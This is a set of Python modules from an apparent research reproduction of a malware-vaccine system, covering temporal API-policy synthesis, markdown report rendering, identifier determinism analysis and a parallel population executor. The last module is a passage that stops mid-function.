