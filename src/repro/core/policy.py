"""Temporal API-policy synthesis — the second deliverable (ROADMAP item 4).

A vaccine immunizes against one resource check; the same Phase I/II data
supports a broader artifact in the SYSPART/DroidGen style: a *temporal
per-binary API policy*.  The Phase I API log is split at the
**first-interception boundary** — the earliest call the impact analysis
would have intercepted (the exact site :class:`~repro.core.snapshot`
checkpoints, and where trace alignment starts diverging).  Everything
before it is the sample's **init phase** (loading libraries, reading its
own configuration); everything from it on is **steady state** (the
infection logic the vaccine suppresses).

From that split the synthesizer derives:

* per ``(ResourceType, Operation)`` **allowlists** for each phase — the
  observed behavioural envelope, reported and shipped with the analysis;
* **deny rules**: steady-state resource *acquisitions* (create / write /
  delete / execute) whose identifiers never appear in the init phase and
  survive **benign-baseline subtraction** (DroidGen: subtract anything the
  whitelist or the offline search engine associates with benign software).

Deny rules compile into the shared
:class:`~repro.delivery.engine.RuleEngine` next to vaccine rules and are
enforced as failures, restricted to the observed operations.  Because a
denied identifier is by construction absent from the init-phase allowlist
and from the benign baseline, enforcing the policy is a no-op for benign
programs — which the clinic certifies (:func:`validate_policy`).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, FrozenSet, List, Optional, Sequence, Tuple

from .. import obs
from ..winenv.objects import Operation, ResourceType
from .exclusiveness import ExclusivenessAnalyzer
from .snapshot import mutation_matches
from .vaccine import normalize_identifier

if TYPE_CHECKING:  # pragma: no cover - annotations only
    from ..tracing.trace import Trace
    from ..vm.program import Program
    from ..winenv.environment import SystemEnvironment
    from .clinic import ClinicIncident
    from .impact import ImpactOutcome
    from .pipeline import SampleAnalysis

#: Steady-state operations that count as *acquiring* a resource — the
#: actions a policy denies.  CHECK/READ stay observable: denying probes
#: would flip the malware's own vaccine-style checks into "marker absent".
ACQUISITION_OPERATIONS: Tuple[Operation, ...] = (
    Operation.CREATE,
    Operation.WRITE,
    Operation.DELETE,
    Operation.EXECUTE,
)

#: Allowlists: ``(resource type, operation) -> sorted identifiers``.
Allowlist = Dict[Tuple[ResourceType, Operation], Tuple[str, ...]]


@dataclass(frozen=True)
class PolicyRule:
    """One steady-state denial: identifier + the operations it covers."""

    resource_type: ResourceType
    identifier: str
    operations: FrozenSet[Operation] = frozenset()
    apis: Tuple[str, ...] = ()
    reason: str = ""

    def to_dict(self) -> dict:
        return {
            "resource_type": self.resource_type.value,
            "identifier": self.identifier,
            "operations": sorted(op.value for op in self.operations),
            "apis": list(self.apis),
            "reason": self.reason,
        }

    @staticmethod
    def from_dict(data: dict) -> "PolicyRule":
        return PolicyRule(
            resource_type=ResourceType(data["resource_type"]),
            identifier=data["identifier"],
            operations=frozenset(Operation(o) for o in data.get("operations", [])),
            apis=tuple(data.get("apis", ())),
            reason=data.get("reason", ""),
        )

    def describe(self) -> str:
        ops = ",".join(sorted(op.value for op in self.operations)) or "any"
        return f"deny {self.resource_type.value}:{self.identifier!r} [{ops}]"


@dataclass(frozen=True)
class PolicySubtraction:
    """An identifier the synthesizer (or the clinic) removed, and why —
    kept for the report so subtraction is auditable, not silent."""

    resource_type: ResourceType
    identifier: str
    reason: str

    def to_dict(self) -> dict:
        return {
            "resource_type": self.resource_type.value,
            "identifier": self.identifier,
            "reason": self.reason,
        }

    @staticmethod
    def from_dict(data: dict) -> "PolicySubtraction":
        return PolicySubtraction(
            resource_type=ResourceType(data["resource_type"]),
            identifier=data["identifier"],
            reason=data.get("reason", ""),
        )


@dataclass
class TemporalApiPolicy:
    """Init-phase vs steady-state behavioural envelope for one sample,
    plus the enforceable steady-state deny rules."""

    sample: str
    #: Trace ``seq`` of the first call impact analysis would intercept;
    #: events with ``seq < boundary_seq`` are init phase.
    boundary_seq: int
    #: API name at the boundary (human anchor for reports).
    boundary_api: str = ""
    init_allow: Allowlist = field(default_factory=dict)
    steady_allow: Allowlist = field(default_factory=dict)
    deny: List[PolicyRule] = field(default_factory=list)
    subtracted: List[PolicySubtraction] = field(default_factory=list)
    #: Clinic verdict: ``None`` until validated, then whether enforcement
    #: broke no benign program.
    certified: Optional[bool] = None
    notes: str = ""

    # -- queries -----------------------------------------------------------

    def phase_of(self, seq: int) -> str:
        return "init" if seq < self.boundary_seq else "steady"

    def denies(
        self, resource_type: ResourceType, operation: Operation, identifier: str
    ) -> bool:
        normalized = normalize_identifier(resource_type, identifier)
        return any(
            rule.resource_type is resource_type
            and rule.identifier == normalized
            and (not rule.operations or operation in rule.operations)
            for rule in self.deny
        )

    @property
    def init_identifiers(self) -> int:
        return len({i for ids in self.init_allow.values() for i in ids})

    @property
    def steady_identifiers(self) -> int:
        return len({i for ids in self.steady_allow.values() for i in ids})

    def describe(self) -> str:
        return (
            f"[{self.sample}] boundary seq={self.boundary_seq} ({self.boundary_api}); "
            f"init allow={self.init_identifiers} ids, "
            f"steady allow={self.steady_identifiers} ids, "
            f"deny={len(self.deny)} rule(s)"
        )

    # -- serialization -----------------------------------------------------

    def to_dict(self) -> dict:
        return {
            "sample": self.sample,
            "boundary_seq": self.boundary_seq,
            "boundary_api": self.boundary_api,
            "init_allow": _allowlist_to_dict(self.init_allow),
            "steady_allow": _allowlist_to_dict(self.steady_allow),
            "deny": [r.to_dict() for r in self.deny],
            "subtracted": [s.to_dict() for s in self.subtracted],
            "certified": self.certified,
            "notes": self.notes,
        }

    @staticmethod
    def from_dict(data: dict) -> "TemporalApiPolicy":
        return TemporalApiPolicy(
            sample=data["sample"],
            boundary_seq=data["boundary_seq"],
            boundary_api=data.get("boundary_api", ""),
            init_allow=_allowlist_from_dict(data.get("init_allow", {})),
            steady_allow=_allowlist_from_dict(data.get("steady_allow", {})),
            deny=[PolicyRule.from_dict(r) for r in data.get("deny", [])],
            subtracted=[
                PolicySubtraction.from_dict(s) for s in data.get("subtracted", [])
            ],
            certified=data.get("certified"),
            notes=data.get("notes", ""),
        )


def _allowlist_to_dict(allow: Allowlist) -> dict:
    out: Dict[str, Dict[str, List[str]]] = {}
    for (rtype, op) in sorted(allow, key=lambda k: (k[0].value, k[1].value)):
        out.setdefault(rtype.value, {})[op.value] = list(allow[(rtype, op)])
    return out


def _allowlist_from_dict(data: dict) -> Allowlist:
    allow: Allowlist = {}
    for rtype_value, per_op in data.items():
        for op_value, identifiers in per_op.items():
            allow[(ResourceType(rtype_value), Operation(op_value))] = tuple(identifiers)
    return allow


# ---------------------------------------------------------------------------
# Synthesis
# ---------------------------------------------------------------------------


def synthesize_policy(
    sample: str,
    trace: "Trace",
    impacts: Sequence["ImpactOutcome"],
    exclusiveness: Optional[ExclusivenessAnalyzer] = None,
) -> Optional[TemporalApiPolicy]:
    """Derive a :class:`TemporalApiPolicy` from one sample's Phase I log
    and Phase II impact outcomes.  Returns ``None`` when no effective
    impact exists — without an interception site there is no boundary."""
    analyzer = exclusiveness if exclusiveness is not None else ExclusivenessAnalyzer()
    effective = [o.candidate for o in impacts if o.is_effective]
    if not effective:
        return None

    boundary_event = None
    for event in trace.api_calls:
        if any(mutation_matches(candidate, event) for candidate in effective):
            boundary_event = event
            break
    if boundary_event is None:
        return None

    boundary_seq = boundary_event.seq
    init: Dict[Tuple[ResourceType, Operation], set] = {}
    steady: Dict[Tuple[ResourceType, Operation], set] = {}
    init_identifiers: Dict[ResourceType, set] = {}
    steady_apis: Dict[Tuple[ResourceType, str], set] = {}
    steady_ops: Dict[Tuple[ResourceType, str], set] = {}
    for event in trace.api_calls:
        if event.resource_type is None or event.identifier is None or event.operation is None:
            continue
        rtype = event.resource_type
        identifier = normalize_identifier(rtype, event.identifier)
        if event.seq < boundary_seq:
            init.setdefault((rtype, event.operation), set()).add(identifier)
            init_identifiers.setdefault(rtype, set()).add(identifier)
        else:
            steady.setdefault((rtype, event.operation), set()).add(identifier)
            if event.operation in ACQUISITION_OPERATIONS:
                steady_apis.setdefault((rtype, identifier), set()).add(event.api)
                steady_ops.setdefault((rtype, identifier), set()).add(event.operation)

    deny: List[PolicyRule] = []
    subtracted: List[PolicySubtraction] = []
    for (rtype, identifier) in sorted(
        steady_ops, key=lambda k: (k[0].value, k[1])
    ):
        if identifier in init_identifiers.get(rtype, ()):
            subtracted.append(
                PolicySubtraction(rtype, identifier, "also acquired in init phase")
            )
            continue
        if _benign_associated(analyzer, rtype, identifier):
            subtracted.append(
                PolicySubtraction(rtype, identifier, "benign baseline (DroidGen subtraction)")
            )
            continue
        deny.append(
            PolicyRule(
                resource_type=rtype,
                identifier=identifier,
                operations=frozenset(steady_ops[(rtype, identifier)]),
                apis=tuple(sorted(steady_apis[(rtype, identifier)])),
                reason="steady-state acquisition, no benign association",
            )
        )

    policy = TemporalApiPolicy(
        sample=sample,
        boundary_seq=boundary_seq,
        boundary_api=boundary_event.api,
        init_allow={k: tuple(sorted(v)) for k, v in sorted(
            init.items(), key=lambda kv: (kv[0][0].value, kv[0][1].value)
        )},
        steady_allow={k: tuple(sorted(v)) for k, v in sorted(
            steady.items(), key=lambda kv: (kv[0][0].value, kv[0][1].value)
        )},
        deny=deny,
        subtracted=subtracted,
    )

    flight = obs.flight
    if flight.enabled:
        causes = tuple(o.flight_id for o in impacts if o.is_effective)
        flight_id = flight.record(
            "policy.synthesized",
            causes=causes,
            sample=sample,
            boundary_seq=boundary_seq,
            boundary_api=boundary_event.api,
            init_identifiers=policy.init_identifiers,
            steady_identifiers=policy.steady_identifiers,
            deny=len(deny),
            subtracted=len(subtracted),
        )
        flight.remember(("policy", sample), flight_id)
    return policy


def _benign_associated(
    analyzer: ExclusivenessAnalyzer, rtype: ResourceType, identifier: str
) -> bool:
    """DroidGen-style baseline membership: whitelist or search-engine
    association with benign software (same probes as the exclusiveness
    decision, including the basename fragment for path-like resources)."""
    if analyzer.is_whitelisted(identifier):
        return True
    probes = [identifier]
    if rtype in (ResourceType.FILE, ResourceType.LIBRARY):
        probes.append(identifier.rsplit("\\", 1)[-1])
    return any(analyzer.search.query(probe) for probe in probes)


# ---------------------------------------------------------------------------
# Clinic certification
# ---------------------------------------------------------------------------


@dataclass
class PolicyValidation:
    """Outcome of enforcing a policy against the benign suite."""

    programs_tested: int = 0
    incidents: List["ClinicIncident"] = field(default_factory=list)
    #: Deny rules the clinic removed (implicated in an incident).
    removed: List[PolicyRule] = field(default_factory=list)

    @property
    def clean(self) -> bool:
        return not self.incidents


def validate_policy(
    policy: TemporalApiPolicy,
    benign_programs: Sequence["Program"],
    environment: Optional["SystemEnvironment"] = None,
    max_steps: Optional[int] = None,
    refine: bool = True,
) -> PolicyValidation:
    """Clinic certification for a policy: run the benign suite on a clean
    vs a policy-enforcing machine and compare.  With ``refine=True``
    (DroidGen's iterative subtraction) implicated deny rules are removed
    from the policy and logged in ``policy.subtracted``; ``certified``
    ends up True only when the surviving rules break nothing and every
    incident was attributable."""
    from ..delivery.daemon import VaccineDaemon
    from ..delivery.engine import RuleEngine
    from ..winenv.acl import IntegrityLevel
    from ..winenv.environment import SystemEnvironment
    from .clinic import _compare_runs
    from .runner import DEFAULT_BUDGET, run_sample

    budget = max_steps if max_steps is not None else DEFAULT_BUDGET
    base = environment if environment is not None else SystemEnvironment()
    enforced = base.clone()
    daemon = VaccineDaemon(policies=[policy])
    daemon.install(enforced)

    engine = RuleEngine.compile(policies=[policy])
    validation = PolicyValidation(programs_tested=len(benign_programs))
    for program in benign_programs:
        clean_run = run_sample(
            program,
            environment=base,
            max_steps=budget,
            record_instructions=False,
            integrity=IntegrityLevel.MEDIUM,
        )
        enforced_run = run_sample(
            program,
            environment=enforced,
            max_steps=budget,
            record_instructions=False,
            integrity=IntegrityLevel.MEDIUM,
        )
        validation.incidents.extend(
            _compare_runs(program.name, clean_run, enforced_run, engine)
        )

    implicated = {
        rule
        for incident in validation.incidents
        for rule in incident.implicated
        if isinstance(rule, PolicyRule)
    }
    unattributed = any(not incident.implicated for incident in validation.incidents)
    if refine and implicated:
        validation.removed = [r for r in policy.deny if r in implicated]
        policy.deny = [r for r in policy.deny if r not in implicated]
        policy.subtracted.extend(
            PolicySubtraction(r.resource_type, r.identifier, "clinic incident")
            for r in validation.removed
        )
    policy.certified = not unattributed and (
        not validation.incidents or (refine and bool(implicated))
    )
    return validation


__all__ = [
    "ACQUISITION_OPERATIONS",
    "PolicyRule",
    "PolicySubtraction",
    "PolicyValidation",
    "TemporalApiPolicy",
    "synthesize_policy",
    "validate_policy",
]
