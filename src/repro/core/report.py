"""Human-readable analysis reports (markdown).

Renders a :class:`~repro.core.pipeline.SampleAnalysis` the way an analyst
would publish it: profiling summary, candidate decisions, extracted vaccines
with deployment guidance, timings.
"""

from __future__ import annotations

from typing import List, Optional

from ..obs import render_chain
from ..obs.prof import render_table as _prof_table
from .pipeline import SampleAnalysis, SampleFailure
from .vaccine import DeliveryKind, IdentifierKind


def render_report(analysis: SampleAnalysis, title: Optional[str] = None) -> str:
    program = analysis.program
    lines: List[str] = []
    push = lines.append

    push(f"# {title or f'AUTOVAC analysis: {program.name}'}")
    push("")
    meta = program.metadata
    if meta:
        facts = ", ".join(f"{k}={v}" for k, v in sorted(meta.items()) if k != "markers")
        push(f"*Sample metadata:* {facts}")
        push("")

    if analysis.filtered_reason:
        push(f"**Filtered in Phase I** — {analysis.filtered_reason}.")
        push("")
        return "\n".join(lines)

    phase1 = analysis.phase1
    push("## Phase I — profiling")
    push("")
    push(f"* exit: `{phase1.trace.exit_status}` after {phase1.trace.steps} steps")
    push(f"* resource-API occurrences: {phase1.total_occurrences} "
         f"({phase1.influential_occurrences} influence control flow)")
    push(f"* tainted predicates: {len(phase1.trace.predicates)}")
    push(f"* candidate resources: {len(phase1.candidates)}")
    push("")

    if analysis.exclusiveness:
        push("## Phase II — exclusiveness decisions")
        push("")
        push("| resource | identifier | exclusive | reason |")
        push("|---|---|---|---|")
        for decision in analysis.exclusiveness:
            c = decision.candidate
            mark = "yes" if decision.exclusive else "no"
            push(f"| {c.resource_type.value} | `{c.identifier}` | {mark} | {decision.reason} |")
        push("")

    push("## Vaccines")
    push("")
    if not analysis.vaccines:
        push("_No deployable vaccines: every candidate failed impact or "
             "determinism analysis._")
        push("")
    for i, vaccine in enumerate(analysis.vaccines, 1):
        push(f"### {i}. {vaccine.resource_type.value} `{vaccine.identifier}`")
        push("")
        push(f"* immunization: **{vaccine.immunization.value}**")
        push(f"* identifier kind: {vaccine.identifier_kind.value}")
        push(f"* mechanism: {vaccine.mechanism.value}")
        push(f"* delivery: {vaccine.delivery.value}")
        if vaccine.operations:
            push(f"* operations observed: {', '.join(sorted(o.value for o in vaccine.operations))}")
        if vaccine.pattern:
            push(f"* daemon match pattern: `{vaccine.pattern}`")
        if vaccine.slice is not None:
            push(f"* generation slice: {len(vaccine.slice)} steps, "
                 f"inputs {', '.join(vaccine.slice.env_inputs) or 'none'}, "
                 f"re-execution={'yes' if vaccine.slice.requires_reexecution else 'no'}")
        if vaccine.bdr is not None:
            push(f"* measured BDR: {vaccine.bdr:.0%}")
        push(f"* deployment: {_deployment_hint(vaccine)}")
        if vaccine.notes:
            push(f"* notes: {vaccine.notes}")
        push("")
        evidence = _evidence(analysis, vaccine)
        if evidence:
            push("#### Evidence")
            push("")
            push("```")
            push(evidence)
            push("```")
            push("")

    if analysis.policy is not None:
        policy = analysis.policy
        push("## Temporal API policy")
        push("")
        push(
            f"* boundary: first interception at `{policy.boundary_api}` "
            f"(trace seq {policy.boundary_seq})"
        )
        push(
            f"* init phase: {policy.init_identifiers} identifier(s) allowed; "
            f"steady state: {policy.steady_identifiers} observed"
        )
        if policy.certified is None:
            push("* clinic certification: not run")
        else:
            push(
                "* clinic certification: "
                + ("**clean**" if policy.certified else "**failed**")
            )
        push("")
        if policy.deny:
            push("| deny | identifier | operations | via |")
            push("|---|---|---|---|")
            for rule in policy.deny:
                ops = ", ".join(sorted(o.value for o in rule.operations)) or "any"
                apis = ", ".join(rule.apis)
                push(
                    f"| {rule.resource_type.value} | `{rule.identifier}` "
                    f"| {ops} | {apis} |"
                )
            push("")
        else:
            push("_No enforceable deny rules survived subtraction._")
            push("")
        for sub in policy.subtracted:
            push(
                f"* subtracted {sub.resource_type.value} `{sub.identifier}` "
                f"— {sub.reason}"
            )
        if policy.subtracted:
            push("")
        evidence = _policy_evidence(analysis)
        if evidence:
            push("#### Evidence")
            push("")
            push("```")
            push(evidence)
            push("```")
            push("")

    if analysis.clinic is not None:
        push("## Clinic test")
        push("")
        push(f"* benign programs: {analysis.clinic.programs_tested}")
        push(f"* incidents: {len(analysis.clinic.incidents)}")
        push(f"* vaccines passed: {len(analysis.clinic.passed)}")
        push("")

    if analysis.timings:
        push("## Timings")
        push("")
        for phase, seconds in analysis.timings.items():
            push(f"* {phase}: {seconds * 1000:.1f} ms")
        push("")

    if analysis.profile:
        push("## Hot paths")
        push("")
        push("```")
        push(_prof_table(analysis.profile, top=12).rstrip("\n"))
        push("```")
        push("")

    return "\n".join(lines)


def render_failure_summary(failures: List[SampleFailure]) -> str:
    """Markdown summary of the samples a population survey quarantined
    (``PopulationResult.failures``) — what failed, how, and how hard the
    executor tried."""
    lines: List[str] = ["# Survey failures", ""]
    push = lines.append
    if not failures:
        push("_No failures: every sample analyzed successfully._")
        return "\n".join(lines)
    kinds: dict = {}
    for failure in failures:
        kinds[failure.kind] = kinds.get(failure.kind, 0) + 1
    breakdown = ", ".join(f"{k}={v}" for k, v in sorted(kinds.items()))
    push(f"{len(failures)} sample(s) quarantined ({breakdown}).")
    push("")
    push("| sample | kind | error | attempts | message |")
    push("|---|---|---|---|---|")
    for failure in failures:
        message = failure.message.replace("|", "\\|").replace("\n", " ")
        push(
            f"| `{failure.sample}` | {failure.kind} | {failure.error_type} "
            f"| {failure.attempts} | {message} |"
        )
    push("")
    return "\n".join(lines)


def render_run_manifest(manifest: dict) -> str:
    """Markdown summary of one run directory's manifest (``repro runs``
    pointed at a single run): identity, status, and outcome counts."""
    from ..obs.ledger import manifest_status

    lines: List[str] = [f"# Run {manifest.get('run_id', '(unknown)')}", ""]
    push = lines.append
    push(f"* status: **{manifest_status(manifest)}**")
    push(f"* population: {manifest.get('population', '?')} samples")
    fingerprint = str(manifest.get("config_fingerprint", ""))
    if fingerprint:
        push(f"* config fingerprint: `{fingerprint[:16]}`")
    started = manifest.get("started_unix")
    if started is not None:
        import time as _time

        push(
            "* started: "
            + _time.strftime("%Y-%m-%d %H:%M:%S", _time.localtime(float(started)))
        )
    if "duration_seconds" in manifest:
        push(f"* duration: {float(manifest['duration_seconds']):.1f}s")
    outcomes = manifest.get("outcomes") or {}
    if outcomes:
        push("")
        push("| outcome | count |")
        push("|---|---|")
        for key in sorted(outcomes):
            push(f"| {key} | {outcomes[key]} |")
    push("")
    return "\n".join(lines)


def _evidence(analysis: SampleAnalysis, vaccine) -> Optional[str]:
    """Causal chain (flight-recorder journal) behind one vaccine, or None
    when no journal was recorded or no matching event exists."""
    journal = analysis.journal
    if journal is None:
        return None
    events = journal.find(
        "vaccine",
        resource=vaccine.resource_type.value,
        identifier=vaccine.identifier,
        mechanism=vaccine.mechanism.value,
    )
    if not events:
        return None
    return render_chain(journal, events[0].event_id, max_depth=8, max_lines=40)


def _policy_evidence(analysis: SampleAnalysis) -> Optional[str]:
    """Causal chain behind the synthesized policy, mirroring vaccine
    evidence blocks."""
    journal = analysis.journal
    if journal is None:
        return None
    events = journal.find("policy.synthesized")
    if not events:
        return None
    return render_chain(journal, events[0].event_id, max_depth=8, max_lines=40)


def _deployment_hint(vaccine) -> str:
    if vaccine.delivery is DeliveryKind.DIRECT_INJECTION:
        from .vaccine import Mechanism

        if vaccine.mechanism is Mechanism.SIMULATE_PRESENCE:
            return ("create the marker once, owned by a super user, "
                    "read-only for everyone else")
        return "plant a locked decoy (or remove the resource) once"
    if vaccine.identifier_kind is IdentifierKind.ALGORITHM_DETERMINISTIC:
        return ("daemon replays the generation slice per host and injects "
                "the computed marker; re-run when machine identity changes")
    return "daemon intercepts matching resource accesses at runtime"
