"""Phase II, step III — determinism analysis (paper §IV-C, Figure 2).

Decides whether a resource identifier can be reproduced on another machine:

* **static** — every byte comes from read-only data or constants
  (Fig. 2 left: ``"\\\\.PIPE\\_AVIRA_2109"`` from ``.rdata``);
* **partial static** — static skeleton around unpredictable bytes → anchored
  regex (deployable by the daemon's interception matcher);
* **algorithm-deterministic** — derived from stable machine inputs
  (Fig. 2 middle: computer name through ``_snprintf``) → extract the
  executable generation slice via backward taint tracking;
* **non-deterministic** — all unpredictable (Fig. 2 right:
  ``GetTempFileName``); discarded.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import List, Optional, Tuple

from .. import obs
from ..taint.backward import BackwardResult, backward_slice
from ..taint.labels import TagSet, TaintClass
from ..taint.replay import SliceReplayError, replay_slice
from ..taint.slicing import VaccineSlice, extract_slice
from ..tracing.events import ApiCallEvent
from ..tracing.trace import Trace
from ..vm.program import Program
from .runner import RunResult
from .vaccine import IdentifierKind

#: Minimum literal characters for a partial-static pattern to be
#: distinguishable (avoids over-broad wildcard vaccines).
MIN_STATIC_CONTEXT = 3


@dataclass
class DeterminismResult:
    kind: IdentifierKind
    pattern: Optional[str] = None
    slice: Optional[VaccineSlice] = None
    backward: Optional[BackwardResult] = None
    notes: str = ""
    #: Flight-recorder id of the "verdict.determinism" event (process-local).
    flight_id: Optional[int] = None


def _byte_class(tags: TagSet) -> str:
    """Classify one identifier byte: random > env > static (priority)."""
    classes = {tag.klass for tag in tags}
    if TaintClass.RANDOM in classes or TaintClass.RESOURCE in classes:
        return "random"
    if TaintClass.ENV_DETERMINISTIC in classes:
        return "env"
    return "static"


def byte_classes(event: ApiCallEvent) -> List[str]:
    if not event.identifier or event.identifier_taints is None:
        return []
    return [_byte_class(tags) for tags in event.identifier_taints]


def build_pattern(identifier: str, classes: List[str]) -> Optional[str]:
    """Anchored regex: static runs literal, other runs wildcarded.

    Unpredictable *and* merely machine-dependent (env) bytes both become
    wildcards so the pattern transfers across machines.
    """
    if len(identifier) != len(classes):
        return None
    pieces: List[str] = []
    static_chars = 0
    i = 0
    while i < len(identifier):
        if classes[i] == "static":
            j = i
            while j < len(identifier) and classes[j] == "static":
                j += 1
            pieces.append(re.escape(identifier[i:j]))
            static_chars += j - i
            i = j
        else:
            j = i
            while j < len(identifier) and classes[j] != "static":
                j += 1
            pieces.append(".+")
            i = j
    if static_chars < MIN_STATIC_CONTEXT:
        return None
    return "^" + "".join(pieces) + "$"


def analyze_determinism(
    program: Program,
    run: RunResult,
    event: ApiCallEvent,
    validate_replay: bool = True,
) -> DeterminismResult:
    """Classify ``event``'s identifier and build its deployable artifact."""
    result = _classify_identifier(program, run, event, validate_replay)
    flight = obs.flight
    if flight.enabled:
        result.flight_id = flight.record(
            "verdict.determinism",
            causes=(
                flight.recall(("api", event.event_id)),
                result.backward.flight_id if result.backward is not None else None,
                result.slice.flight_id if result.slice is not None else None,
            ),
            identifier=event.identifier,
            identifier_kind=result.kind.value,
            pattern=result.pattern,
            notes=result.notes,
        )
    return result


def _classify_identifier(
    program: Program,
    run: RunResult,
    event: ApiCallEvent,
    validate_replay: bool,
) -> DeterminismResult:
    classes = byte_classes(event)
    if not classes:
        # Identifier came through the handle map (no in-memory string);
        # treat as static if non-empty — the name-carrying open event is the
        # canonical one and is analyzed separately.
        kind = IdentifierKind.STATIC if event.identifier else IdentifierKind.NON_DETERMINISTIC
        return DeterminismResult(kind=kind, notes="handle-resolved identifier")

    has_random = "random" in classes
    has_env = "env" in classes

    if not has_random and not has_env:
        return DeterminismResult(kind=IdentifierKind.STATIC)

    if has_random:
        pattern = build_pattern(event.identifier, classes)
        if pattern is None:
            return DeterminismResult(
                kind=IdentifierKind.NON_DETERMINISTIC,
                notes="insufficient static context around random bytes",
            )
        return DeterminismResult(kind=IdentifierKind.PARTIAL_STATIC, pattern=pattern)

    # env-deterministic bytes, no random: algorithm-deterministic.
    backward = backward_slice(run.trace, event, memory=run.cpu.memory)
    if backward.has_random_sources:
        # Over-approximation in byte classes; the root cause says random.
        pattern = build_pattern(event.identifier, classes)
        if pattern is not None:
            return DeterminismResult(
                kind=IdentifierKind.PARTIAL_STATIC, pattern=pattern, backward=backward
            )
        return DeterminismResult(kind=IdentifierKind.NON_DETERMINISTIC, backward=backward)

    output_addr = event.extra.get("identifier_addr")
    if output_addr is None:
        return DeterminismResult(
            kind=IdentifierKind.NON_DETERMINISTIC,
            backward=backward,
            notes="no identifier address recorded",
        )
    slice_ = extract_slice(program, run.trace, backward, output_addr, target_event=event)

    if validate_replay:
        # Sanity: replaying on a clone of the analysis machine must
        # regenerate the very identifier observed.
        try:
            regenerated = replay_slice(slice_, run.environment.clone(), program=program)
        except SliceReplayError as exc:
            return DeterminismResult(
                kind=IdentifierKind.NON_DETERMINISTIC,
                backward=backward,
                notes=f"slice replay failed: {exc}",
            )
        if regenerated != event.identifier:
            return DeterminismResult(
                kind=IdentifierKind.NON_DETERMINISTIC,
                backward=backward,
                notes=f"slice replay mismatch: {regenerated!r}",
            )

    return DeterminismResult(
        kind=IdentifierKind.ALGORITHM_DETERMINISTIC,
        slice=slice_,
        backward=backward,
        notes=f"inputs: {', '.join(slice_.env_inputs)}",
    )
