"""Parallel, cache-backed population executor (paper §VI scale: 1,716
samples through Phase I–III).

Per-sample analyses are hermetic — ``run_sample`` clones the pristine
environment and the RNG reseeds per clone — so a population fans out to
worker processes without changing any result:

* :class:`PipelineConfig` is the picklable recipe each worker uses to build
  its own :class:`~repro.core.pipeline.AutoVac`;
* workers return ``(analysis payload, metrics snapshot)``; the parent
  decodes payloads via the :mod:`repro.tracing.serialize` analysis codec,
  adopts the span trees into ``obs.trace`` and folds the snapshots into
  ``obs.metrics`` (so ``--metrics``/``stats`` stay correct under ``jobs>1``);
* :class:`ResultCache` stores payloads content-addressed by
  ``sha256(program text, PipelineConfig)`` — an interrupted survey restarted
  with the same cache directory re-analyzes only the missing samples.

The ``pipeline.population_analyzed`` gauge tracks *completed* samples (a
monotone count, final value == population size) regardless of worker
completion order.
"""

from __future__ import annotations

import hashlib
import json
import os
from concurrent.futures import FIRST_COMPLETED, ProcessPoolExecutor, wait
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Dict, Iterable, List, Optional, Tuple, Union

from .. import obs
from ..analysis.alignment import align_lcs, align_linear, align_myers
from ..tracing import serialize
from ..vm.program import Program
from .pipeline import AutoVac, PopulationResult, SampleAnalysis
from .runner import DEFAULT_BUDGET

_log = obs.get_logger("executor")

#: Aligner registry — configs name the aligner so they stay picklable.
ALIGNERS = {"lcs": align_lcs, "linear": align_linear, "myers": align_myers}


@dataclass(frozen=True)
class PipelineConfig:
    """Everything needed to rebuild an equivalent :class:`AutoVac` in
    another process.  Only named/scalar knobs belong here (picklability and
    cache-key stability); the clinic needs shared benign programs and stays
    a sequential-only feature.
    """

    profile_budget: int = DEFAULT_BUDGET
    validate_replay: bool = True
    exclusiveness_enabled: bool = True
    explore_paths: bool = False
    aligner: str = "myers"
    #: Phase-II impact analysis resumes mutated runs from per-candidate
    #: checkpoints instead of re-executing the shared prefix.  Results are
    #: identical either way (the snapshot-equivalence tests pin this); the
    #: flag exists for the equivalence bench and as an escape hatch.
    snapshot_impact: bool = True

    def build(self) -> AutoVac:
        try:
            aligner = ALIGNERS[self.aligner]
        except KeyError:
            raise ValueError(
                f"unknown aligner {self.aligner!r} (have: {sorted(ALIGNERS)})"
            ) from None
        return AutoVac(
            aligner=aligner,
            profile_budget=self.profile_budget,
            validate_replay=self.validate_replay,
            exclusiveness_enabled=self.exclusiveness_enabled,
            explore_paths=self.explore_paths,
            snapshot_impact=self.snapshot_impact,
        )

    def fingerprint(self) -> str:
        """Stable hash of the config *and* the payload format version — a
        codec bump invalidates every cached result automatically."""
        doc = {
            "config": asdict(self),
            "analysis_format": serialize.ANALYSIS_FORMAT_VERSION,
        }
        return hashlib.sha256(
            json.dumps(doc, sort_keys=True).encode("utf-8")
        ).hexdigest()


def config_for(autovac: AutoVac) -> PipelineConfig:
    """Derive the worker recipe from an existing pipeline instance.

    Raises :class:`ValueError` for setups a worker cannot reproduce from a
    config alone (clinic programs, custom aligner callables, custom stage
    lists) — those run sequentially via ``jobs=1``.
    """
    aligner_name = next(
        (name for name, fn in ALIGNERS.items() if fn is autovac.impact.aligner), None
    )
    if aligner_name is None:
        raise ValueError(
            "cannot parallelize: custom aligner callable is not picklable; "
            "use aligner='lcs'/'linear' via PipelineConfig or run with jobs=1"
        )
    if autovac.run_clinic or autovac.clinic_programs:
        raise ValueError(
            "cannot parallelize: the clinic test shares benign programs "
            "across samples; run with jobs=1"
        )
    from .stages import default_stages

    defaults = default_stages(exclusiveness_enabled=autovac.exclusiveness_enabled)
    if tuple(type(s) for s in autovac.stages) != tuple(type(s) for s in defaults):
        raise ValueError(
            "cannot parallelize: custom stage lists do not ship to workers; "
            "run with jobs=1"
        )
    return PipelineConfig(
        profile_budget=autovac.profile_budget,
        validate_replay=autovac.validate_replay,
        exclusiveness_enabled=autovac.exclusiveness_enabled,
        explore_paths=autovac.explore_paths,
        aligner=aligner_name,
        snapshot_impact=autovac.impact.snapshot_resume,
    )


class ResultCache:
    """Content-addressed on-disk store of encoded analyses.

    Key: sha256 of the program text (assembly source, falling back to the
    disassembly), its name/metadata/section images, and the
    :meth:`PipelineConfig.fingerprint`.  Layout: ``root/<k[:2]>/<key>.json``.
    Writes are atomic (tmp + rename); a corrupt or version-skewed entry
    reads as a miss.
    """

    def __init__(self, root: Union[str, os.PathLike]) -> None:
        self.root = Path(root)
        self.root.mkdir(parents=True, exist_ok=True)

    def key(self, program: Program, config: PipelineConfig) -> str:
        h = hashlib.sha256()
        h.update(program.name.encode("utf-8", "replace"))
        text = program.source or program.disassemble()
        h.update(b"\x00" + text.encode("utf-8", "replace"))
        for section in program.sections:
